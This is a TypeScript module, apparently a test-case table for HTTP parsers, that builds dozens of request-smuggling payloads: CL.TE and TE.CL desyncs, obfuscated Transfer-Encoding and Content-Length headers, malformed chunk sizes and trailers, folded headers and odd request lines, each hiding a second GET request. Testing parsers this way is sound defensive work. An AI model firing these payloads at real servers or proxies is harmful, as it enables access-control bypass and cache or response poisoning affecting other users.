/** Requests that two recipients could read in two ways. What follows each of them must be read as a request of its own, or not at all. */

export interface SmugglingCase {
  readonly name: string
  /** @param paths of the request itself, and of the one that is hidden in it. */
  readonly bytes: (paths: { readonly attack: string; readonly smuggled: string }) => string
}

const host = 'Host: a\r\n'

/** A POST whose header lines and body are given; the body may name the hidden request. */
function post(name: string, headers: string, body: (hidden: string) => string): SmugglingCase {
  return {
    name,
    bytes: ({ attack, smuggled }) =>
      `POST ${attack} HTTP/1.1\r\n${host}${headers}\r\n${body(`GET ${smuggled} HTTP/1.1\r\n${host}\r\n`)}`,
  }
}

/** The hidden request behind the last chunk: in the body for one who counts bytes. */
const behindEnd = (hidden: string) => `0\r\n\r\n${hidden}`
/** The hidden request in a chunk: behind the body for one who reads `Content-Length: 4`. */
const inChunk = (hidden: string) => `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`
const hexOf = (text: string) => text.length.toString(16)

/** Ways to write Transfer-Encoding that some recipients read and others do not. */
const codings = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: chun\r\n ked',
  ' Transfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: CHUNKED',
  'transfer-encoding: cHuNkEd',
  'Transfer-Encoding:',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: \xa0chunked',
  'Transfer\xadEncoding: chunked',
]

/** Ways to write a length of 4 that some recipients read and others do not. */
const lengths = [
  'Content-Length: +4',
  'Content-Length: -4',
  'Content-Length: 4 4',
  'Content-Length: 4, 4',
  'Content-Length: 4\r\nContent-Length: 4',
  'Content-Length: 4\r\nContent-Length: 400',
  'Content-Length : 4',
  'Content-Length:\t4',
  'Content-Length: 4\x0b',
  'Content-Length: 0x4',
  'Content-Length: 04',
  'Content-Length: 4.0',
  'Content-Length: 4e0',
  'Content-Length: 18446744073709551620',
  'Content-Length:',
  'Content-Length:\r\n 4',
  'Content-Length: 4;q=1',
  'Content_Length: 4',
  'content-length: 4\r\ncontent-Length: 4',
]

/** What may stand where a chunk's size does, for a chunk of the 5 bytes `hello`. */
const sizes = [
  '005',
  '0000000000000000000005',
  '5 ',
  ' 5',
  '\t5',
  '+5',
  '-5',
  '0x5',
  '5_0',
  '5;',
  '5;a',
  '5;a=b',
  '5;a="b;c"',
  '5 ;a',
  '5; a',
  '5;a =b',
  '5;a\n0',
  '5;a="\n"',
  '5;a\r',
  '5\n',
  '5;a="\r\n0\r\n\r\n',
  '5,5',
  '5\x00',
  '100000005',
  '10000000000000005',
]

export const smugglingCases: readonly SmugglingCase[] = [
  // CL.TE and TE.CL, with all that hides a Transfer-Encoding from one of two.
  ...['Transfer-Encoding: chunked', ...codings].flatMap((coding) => [
    {
      name: `CL.TE ${JSON.stringify(coding)}`,
      bytes: ({ attack, smuggled }: { attack: string; smuggled: string }) => {
        const body = behindEnd(`GET ${smuggled} HTTP/1.1\r\n${host}\r\n`)
        return `POST ${attack} HTTP/1.1\r\n${host}Content-Length: ${body.length}\r\n${coding}\r\n\r\n${body}`
      },
    },
    post(`TE.CL ${JSON.stringify(coding)}`, `${coding}\r\nContent-Length: 4\r\n`, inChunk),
    post(`TE alone ${JSON.stringify(coding)}`, `${coding}\r\n`, behindEnd),
  ]),

  ...lengths.map((length) =>
    post(`CL ${JSON.stringify(length)}`, `${length}\r\n`, (hidden) => `abcd${hidden}`),
  ),
  post('CL.0: a length where the body is forgotten', 'Content-Length: 44\r\n', (hidden) =>
    hidden.slice(0, 44).padEnd(44),
  ),
  {
    name: 'GET with a body',
    bytes: ({ attack, smuggled }) => {
      const hidden = `GET ${smuggled} HTTP/1.1\r\n${host}\r\n`
      return `GET ${attack} HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`
    },
  },

  ...sizes.map((size) =>
    post(
      `chunk size ${JSON.stringify(size)}`,
      'Transfer-Encoding: chunked\r\n',
      (hidden) => `${size}\r\nhello\r\n0\r\n\r\n${hidden}`,
    ),
  ),
  // A terminator of extensions that one takes for the end of the line and the other does not.
  post(
    'an extension that ends with LF alone, over a hidden chunk',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => {
      const inner = `0\r\n\r\n${hidden}`
      return `5;\nabc\r\n${hexOf(inner)}\r\n${inner}\r\n0\r\n\r\n`
    },
  ),
  post(
    'an extension with LF inside',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `2;\nxx\r\n4c\r\n0\r\n\r\n${hidden}`,
  ),
  post(
    'a chunk that ends with two bytes of anything',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `5\r\nhelloXX0\r\n\r\n${hidden}`,
  ),
  post(
    'a chunk that ends with LF',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `5\r\nhello\n0\r\n\r\n${hidden}`,
  ),
  post(
    'a chunk without an end',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `5\r\nhello0\r\n\r\n${hidden}`,
  ),
  post(
    'chunks whose lines end with LF',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `5\nhello\n0\n\n${hidden}`,
  ),
  post(
    'chunks whose lines end with CR',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `5\rhello\r0\r\r${hidden}`,
  ),
  post(
    'a trailer Content-Length',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  ),
  post(
    'a trailer Transfer-Encoding',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `0\r\nTransfer-Encoding: chunked\r\n\r\n${hidden}`,
  ),
  post(
    'a trailer that is ordinary',
    'Transfer-Encoding: chunked\r\nTrailer: X-A\r\n',
    (hidden) => `0\r\nX-A: b\r\n\r\n${hidden}`,
  ),
  post('a trailer that begins with LF', 'Transfer-Encoding: chunked\r\n', (hidden) => `0\r\n\n${hidden}`),
  post(
    'a trailer that is folded',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `0\r\nX: a\r\n b\r\n\r\n${hidden}`,
  ),
  post(
    'a last chunk with an extension',
    'Transfer-Encoding: chunked\r\n',
    (hidden) => `0;a=b\r\n\r\n${hidden}`,
  ),

  // Header lines.
  post('a folded line', 'X: a\r\n b\r\nContent-Length: 4\r\n', (hidden) => `abcd${hidden}`),
  post(
    'a folded line that looks like a length',
    'X: a\r\n Content-Length: 44\r\nContent-Length: 4\r\n',
    (hidden) => `abcd${hidden}`,
  ),
  post('LF between header lines', 'X: a\nY: b\nContent-Length: 4\r\n', (hidden) => `abcd${hidden}`),
  post('LF LF at the end of the head', 'X: a\n\n', (hidden) => hidden),
  post(
    'CR alone in a value',
    'X: a\rContent-Length: 44\r\nContent-Length: 4\r\n',
    (hidden) => `abcd${hidden}`,
  ),
  post('NUL in a value', 'X: a\x00b\r\nContent-Length: 4\r\n', (hidden) => `abcd${hidden}`),
  post('a line without a colon', 'Nonsense\r\nContent-Length: 4\r\n', (hidden) => `abcd${hidden}`),
  post('an empty name', ': x\r\nContent-Length: 4\r\n', (hidden) => `abcd${hidden}`),
  post('two Host fields', 'Host: b\r\nContent-Length: 4\r\n', (hidden) => `abcd${hidden}`),
  post(
    'a Host with a space before the colon',
    'Host : b\r\nContent-Length: 4\r\n',
    (hidden) => `abcd${hidden}`,
  ),
  post('the length named in Connection', 'Connection: Content-Length\r\nContent-Length: 44\r\n', (hidden) =>
    hidden.padEnd(44),
  ),
  post(
    'Transfer-Encoding named in Connection',
    'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n',
    behindEnd,
  ),
  post(
    'the id of the proxy named in Connection',
    'Connection: X-Proxy-Id\r\nContent-Length: 4\r\n',
    (hidden) => `abcd${hidden}`,
  ),
  post(
    'Expect with another case',
    'Expect: 100-Continue\r\nContent-Length: 4\r\n',
    (hidden) => `abcd${hidden}`,
  ),
  post('Expect with more', 'Expect: 100-continue, x\r\nContent-Length: 4\r\n', (hidden) => `abcd${hidden}`),
  post(
    'Expect on a body that does not come',
    'Expect: 100-continue\r\nContent-Length: 400\r\n',
    (hidden) => hidden,
  ),
  post(
    'an upgrade to h2c',
    'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 4\r\n',
    (hidden) => `abcd${hidden}`,
  ),
  post(
    'an upgrade that is refused',
    'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\nContent-Length: 4\r\n',
    (hidden) => `abcd${hidden}`,
  ),

  // Request lines.
  ...[
    'POST PATH HTTP/1.0',
    'POST PATH HTTP/1.2',
    'POST PATH HTTP/2.0',
    'POST PATH',
    'POST  PATH HTTP/1.1',
    'POST PATH  HTTP/1.1',
    'POST\tPATH\tHTTP/1.1',
    'POST PATH HTTP/1.1 ',
    'POST PATH HTTP/01.1',
    'POST PATH http/1.1',
    'POST http://bPATH HTTP/1.1',
    'POST PATH?a=b HTTP/1.1',
    'POST PATH#f HTTP/1.1',
    'POST PATH%0d%0a HTTP/1.1',
    'POST PATH\x80 HTTP/1.1',
    'P@ST PATH HTTP/1.1',
    'post PATH HTTP/1.1',
    '\r\nPOST PATH HTTP/1.1',
    '\nPOST PATH HTTP/1.1',
    '\r\n\r\n\r\nPOST PATH HTTP/1.1',
  ].map((line) => ({
    name: `request line ${JSON.stringify(line)}`,
    bytes: ({ attack, smuggled }: { attack: string; smuggled: string }) =>
      `${line.replace('PATH', attack)}\r\n${host}Content-Length: 4\r\n\r\nabcdGET ${smuggled} HTTP/1.1\r\n${host}\r\n`,
  })),
  {
    name: 'HTTP/1.0 with chunks',
    bytes: ({ attack, smuggled }) =>
      `POST ${attack} HTTP/1.0\r\n${host}Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET ${smuggled} HTTP/1.1\r\n${host}\r\n`,
  },
  {
    name: 'HTTP/0.9 behind a request',
    bytes: ({ attack, smuggled }) => `GET ${attack} HTTP/1.1\r\n${host}\r\nGET ${smuggled}\r\n`,
  },
]
